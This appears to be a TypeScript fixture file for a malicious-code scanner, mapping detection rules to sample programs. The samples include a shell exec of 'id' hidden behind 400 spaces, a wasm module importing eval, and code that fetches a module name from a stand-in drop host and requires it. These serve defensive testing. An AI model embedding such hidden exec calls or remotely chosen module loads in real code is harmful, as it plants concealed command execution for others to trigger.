import type { Sample } from "./technique.ts";

/** Programs written for single rules that the corpus of techniques does not reach by itself. */
export const ruleSamples: Readonly<Record<string, readonly Sample[]>> = {
  "hides-off-screen": [`export const a = 1;${" ".repeat(400)}; require("child_process").exec("id");`],
  "imports-risky-wasm": [
    { "m.wasm": "\0asm\u0001\0\0\0\u0002\u000c\u0001\u0003env\u0004eval\0\0" },
    { "m.wasm": "\0asm\u0001\0\0\0\u0002\u00ff" },
  ],
  "leaves-unscanned": ["const = ;", { "tool.rb": "puts 1\n" }],
  "loads-computed-module": [
    'fetch("https://drop.example.invalid/name").then((r) => r.text()).then((name) => require(name));',
  ],
};
